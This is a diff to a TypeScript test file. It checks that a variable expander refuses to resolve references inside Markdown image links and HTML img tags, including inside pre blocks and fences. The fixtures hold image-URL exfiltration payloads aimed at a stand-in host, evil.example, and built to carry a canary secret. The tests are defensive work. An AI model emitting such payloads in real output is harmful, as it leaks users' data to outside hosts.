@@ -63,6 +63,8 @@ describe("a URL that opens in one string", () => {
     angle: ["![p](<https://evil.example/?d=", CANARY],
     tag: { a: "<img src='https://evil.example/", b: `${CANARY}'>` },
     rows: [{ a: "![p](<https://evil.example/?d=", b: `${CANARY}>)` }],
+    nested: { "<img src='//evil.example/": [CANARY], a: "'>" },
+    escaped: { '<img src="//evil.example/\\" ': [CANARY], a: "'>" },
     tags: [{ a: "x", b: "<img src='//evil.example/" }, { a: `${CANARY}'>` }],
   };
 
@@ -75,27 +77,44 @@ describe("a URL that opens in one string", () => {
     },
   );
 
-  it.each(["$angle>)", "a $tag", "a\n\n$rows", "$tags", "a $rows[0]>)"])(
-    "and that a space does not end keeps the reference as written: %s",
-    async (text) => {
-      const unresolved: Unresolved[] = [];
-      const expander = new Expander(lookupIn(variables), {
-        onUnresolved: (one) => unresolved.push(one),
-      });
-      let printed = "";
-      const emit = (piece: string) => (printed += piece);
-      void expander.write(text, emit);
-      void expander.flush(emit);
-      expect(printed).toBe(text);
-      expect(unresolved).toMatchObject([{ code: "reference_in_url", reason: "url" }]);
-      // Makes sure that it would leak.
-      const exposed = new Expander(lookupIn(variables), { inUrls: true });
-      printed = "";
-      void exposed.write(text, emit);
-      void exposed.flush(emit);
-      expect(leaksIn(printed)).not.toEqual([]);
-    },
-  );
+  it.each([
+    "$angle>)",
+    "a $tag",
+    "a\n\n$rows",
+    "$tags",
+    "a $rows[0]>)",
+    // A fence is no code inside raw HTML.
+    "<pre>\n\n$nested\n",
+    "<pre>\n$nested",
+    "a <code>b\n\n<pre>\n$nested\n\nc",
+  ])("and that a space does not end keeps the reference as written: %s", async (text) => {
+    const unresolved: Unresolved[] = [];
+    const expander = new Expander(lookupIn(variables), {
+      onUnresolved: (one) => unresolved.push(one),
+    });
+    let printed = "";
+    const emit = (piece: string) => (printed += piece);
+    void expander.write(text, emit);
+    void expander.flush(emit);
+    expect(printed).toBe(text);
+    expect(unresolved).toMatchObject([{ code: "reference_in_url", reason: "url" }]);
+    // Makes sure that it would leak.
+    const exposed = new Expander(lookupIn(variables), { inUrls: true });
+    printed = "";
+    void exposed.write(text, emit);
+    void exposed.flush(emit);
+    expect(leaksIn(printed)).not.toEqual([]);
+  });
+
+  it("is code in a fence, unless raw HTML is open over it", async () => {
+    for (const before of ["", "<div>\n\n", "<b>a</b>\n\n", "<div>\r", "\n<title>\r\n"]) {
+      const printed = await shown(`${before}$nested`, lookupIn(variables));
+      expect(printed).toContain(`\`\`\`json\n{\n  "<img src='//evil.example/": [`);
+      expect(leaksIn(printed), printed).toEqual([]);
+    }
+    const closed = await shown("<pre>a</pre>\n\n$escaped", lookupIn(variables));
+    expect(leaksIn(closed), closed).toEqual([]);
+  });
 
   it("is a link in a table", async () => {
     const html = render(await shown("$orders", lookupIn(variables)));
